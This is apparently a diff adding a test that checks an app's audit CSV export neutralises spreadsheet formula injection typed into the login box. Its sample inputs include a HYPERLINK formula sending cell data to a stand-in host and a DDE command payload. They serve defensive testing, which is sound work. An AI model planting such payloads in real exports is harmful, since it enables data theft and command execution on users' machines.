@@ -186,3 +186,41 @@ def test_audit_holds_no_secrets(app, client, make_user):
     for row in audit_rows(app):
         blob = json.dumps({k: str(v) for k, v in row.__dict__.items()})
         assert "correct horse" not in blob  # no password ever lands in the trail
+
+
+def test_csv_export_neutralises_formulas_typed_at_the_login_box(app, client, make_user):
+    """OWASP CSV injection: a cell an attacker controls must never start with = + - @ tab or CR."""
+    admin = make_user(Role.admin)
+    hostile = [
+        '=hyperlink("http://evil.test/?x="&a1,"click")@x.test',
+        "+cmd|' /c calc'!a0@x.test",
+        "-2+3@x.test",
+        "@sum(1+1)@x.test",
+    ]
+    for email in hostile:
+        assert (
+            client.post("/api/v1/auth/login", json={"email": email, "password": "x" * 12}).status_code == 401
+        )
+    # Login strips surrounding white space, so a leading tab or CR reaches the trail another way.
+    with app.state.db.session() as session:
+        for value in ("\tleading-tab", "\rleading-cr"):
+            record(
+                session,
+                AuditContext(actor_role="system"),
+                "auth.login",
+                outcome="denied",
+                resource_id=value,
+                reason="unknown account",
+            )
+        session.commit()
+    response = client.get("/api/v1/audit/events.csv", headers=admin.headers, params={"action": "auth.login"})
+    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    written = [r["resource_id"] for r in rows if r["reason"] == "unknown account"]
+    assert len(written) == len(hostile) + 2
+    for cell in written:
+        assert cell[0] == "'" and cell[1] in "=+-@\t\r", repr(cell)
+    stored = {r.resource_id for r in audit_rows(app, action="auth.login") if r.reason == "unknown account"}
+    assert {cell[1:] for cell in written} == stored  # only the export is neutralised, the trail is not
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r"
